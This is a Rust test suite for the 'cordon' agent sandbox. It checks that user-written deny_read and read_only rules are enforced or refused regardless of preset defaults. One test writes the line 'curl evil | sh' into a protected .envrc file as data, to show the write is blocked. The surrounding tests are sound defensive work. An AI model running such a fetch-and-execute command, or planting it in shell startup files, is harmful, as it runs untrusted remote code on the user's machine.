//! Profile semantics people bring from other agent sandboxes: a rule the user wrote is enforced
//! or refused whatever the preset does with its own defaults; glob patterns in `deny_read` and
//! `read_only`; re-allowing paths inside a hidden tree. Every check is on the real kernel, from
//! outside the sandbox or by an exact errno or content, with a harmless counterpart.

mod common;

use std::fs;
use std::process::Output;

use common::{lines, stderr, stdout, Tree};

/// A profile file with `text`, returned as the `-p` argument.
fn profile(tree: &Tree, name: &str, text: &str) -> String {
    let path = tree.root.join(name);
    fs::write(&path, text).unwrap();
    path.display().to_string()
}

/// `cordon run ARGS -- sh -c SCRIPT`, with or without user namespaces.
fn sh(tree: &Tree, args: &[&str], script: &str, userns: bool) -> Output {
    let mut cmd = tree.cordon();
    cmd.arg("run").args(args).args(["--", "sh", "-c", script]);
    let mut cmd = if userns {
        cmd
    } else {
        common::without_userns(&cmd)
    };
    cmd.output().expect("spawn cordon")
}

/// The resolved policy `--print-policy` shows for `args`.
fn policy(tree: &Tree, args: &[&str]) -> serde_json::Value {
    let mut all = vec!["--print-policy"];
    all.extend_from_slice(args);
    let out = tree.run(&all);
    assert!(out.status.success(), "{}", stderr(&out));
    serde_json::from_slice(&out.stdout).expect("one line of JSON")
}

#[test]
fn a_rule_the_user_wrote_is_refused_without_user_namespaces_whatever_the_preset_says() {
    let tree = Tree::new();
    let secret = tree.cwd.join("secret");
    fs::write(&secret, "s3cret\n").unwrap();
    let notes = tree.cwd.join("notes.txt");
    fs::write(&notes, "mine\n").unwrap();
    let marker = tree.cwd.join("ran");
    // The command would leave a mark and overwrite the read-only file: neither may
    // happen when the run is refused.
    let script = format!(
        "touch {}; echo changed > {}; cat {}",
        marker.display(),
        notes.display(),
        secret.display()
    );
    let hide = profile(
        &tree,
        "hide.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\":cwd/secret\"]\n",
    );
    let keep = profile(
        &tree,
        "keep.toml",
        "extends = \"workspace-write\"\n[filesystem]\nread_only = [\"notes.txt\"]\n",
    );
    let cases: [(Vec<&str>, String); 4] = [
        (vec!["-p", &hide], format!("deny_read:{}", secret.display())),
        (vec!["-p", &keep], format!("read_only:{}", notes.display())),
        // The same rules on the command line.
        (
            vec!["--deny-read", ":cwd/secret"],
            format!("deny_read:{}", secret.display()),
        ),
        (
            vec!["--read-only", "notes.txt"],
            format!("read_only:{}", notes.display()),
        ),
    ];
    for (args, rule) in &cases {
        let out = sh(&tree, args, &script, false);
        assert_eq!(out.status.code(), Some(125), "{args:?}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(
            err.contains(&format!("refusing to run: {rule} cannot be enforced")),
            "{args:?}: {err}"
        );
        assert_eq!(err.lines().count(), 1, "{err}");
        assert_eq!(stdout(&out), "", "{args:?}");
        assert!(
            !marker.exists(),
            "{args:?}: the command ran although refused"
        );
        assert_eq!(fs::read_to_string(&notes).unwrap(), "mine\n");
    }

    // The harmless counterpart: the preset alone, whose own defaults are only reported, runs
    // here, and the command's effects are there to see.
    let out = sh(&tree, &[], &script, false);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "s3cret\n");
    assert!(marker.exists());
    assert_eq!(fs::read_to_string(&notes).unwrap(), "changed\n");

    // With user namespaces the same rules are enforced: the secret reads as empty and the
    // read-only file cannot be written, while the rest of the workspace stays writable.
    require_userns!();
    fs::write(&notes, "mine\n").unwrap();
    fs::remove_file(&marker).unwrap();
    for (args, _) in &cases {
        let probe = format!(
            "touch {}; (echo changed > {}) 2>/dev/null || echo refused; cat {}",
            marker.display(),
            notes.display(),
            secret.display()
        );
        let out = sh(&tree, args, &probe, true);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        let hides = args
            .iter()
            .any(|a| a.contains("secret") || *a == hide.as_str());
        let expected = if hides { "" } else { "refused\ns3cret\n" };
        assert_eq!(stdout(&out), expected, "{args:?}");
        assert!(marker.exists(), "{args:?}");
        let notes_now = fs::read_to_string(&notes).unwrap();
        assert_eq!(notes_now == "mine\n", !hides, "{args:?}: {notes_now}");
        fs::write(&notes, "mine\n").unwrap();
        fs::remove_file(&marker).unwrap();
    }
}

#[test]
fn only_the_users_own_report_relaxes_a_rule_they_wrote_and_plain_run_says_so() {
    let tree = Tree::new();
    let secret = tree.cwd.join("secret");
    fs::write(&secret, "s3cret\n").unwrap();
    let rule = format!("deny_read:{}", secret.display());
    let relaxed = profile(
        &tree,
        "relaxed.toml",
        "extends = \"workspace-write\"\nenforcement = \"report\"\n[filesystem]\ndeny_read = [\":cwd/secret\"]\n",
    );
    let strict = profile(
        &tree,
        "strict.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\":cwd/secret\"]\n",
    );
    // What the policy carries: the rule is required unless the profile relaxed it itself.
    let required = |args: &[&str]| policy(&tree, args)["filesystem"]["required"].clone();
    assert_eq!(
        required(&["-p", &strict]),
        serde_json::json!([secret.display().to_string()])
    );
    assert_eq!(required(&["-p", &relaxed]), serde_json::Value::Null);
    assert_eq!(
        required(&["-p", &strict, "--enforcement", "report"]),
        serde_json::Value::Null
    );
    // The preset's own defaults are never required (they follow its `carve_outs`).
    fs::create_dir(tree.cwd.join(".git")).unwrap();
    assert_eq!(required(&[]), serde_json::Value::Null);

    for args in [
        vec!["-p", relaxed.as_str()],
        vec!["-p", &strict, "--enforcement", "report"],
    ] {
        let out = sh(&tree, &args, "cat secret", false);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        assert_eq!(stdout(&out), "s3cret\n");
        let announced =
            format!("cordon: not enforced: {rule} (carve-outs need the mount-namespace layer");
        assert!(
            stderr(&out).lines().any(|l| l.starts_with(&announced)),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    // `--enforcement refuse` on top of a relaxed profile takes it back.
    let out = sh(
        &tree,
        &["-p", &relaxed, "--enforcement", "refuse"],
        "cat secret",
        false,
    );
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert_eq!(stdout(&out), "");
}

#[test]
fn a_read_only_entry_that_does_not_exist_cannot_be_created() {
    require_userns!();
    let tree = Tree::new();
    let p = profile(
        &tree,
        "envrc.toml",
        "extends = \"workspace-write\"\n[filesystem]\nread_only = [\".envrc\"]\n",
    );
    let out = common::Tree::py(
        &tree,
        &["-p", &p],
        r#"
print(attempt(lambda: open(".envrc", "w").write("curl evil | sh\n")))
print(attempt(lambda: os.mkdir(".envrc/x")))
print(attempt(lambda: open("other", "w").write("fine")))
"#,
    );
    assert_eq!(lines(&out), ["EISDIR", "EROFS", "OK"], "{}", stderr(&out));
    // From outside: nothing of the command's is left where the rule was, the harmless file is.
    assert!(!tree.cwd.join(".envrc").exists());
    assert_eq!(fs::read_to_string(tree.cwd.join("other")).unwrap(), "fine");
}
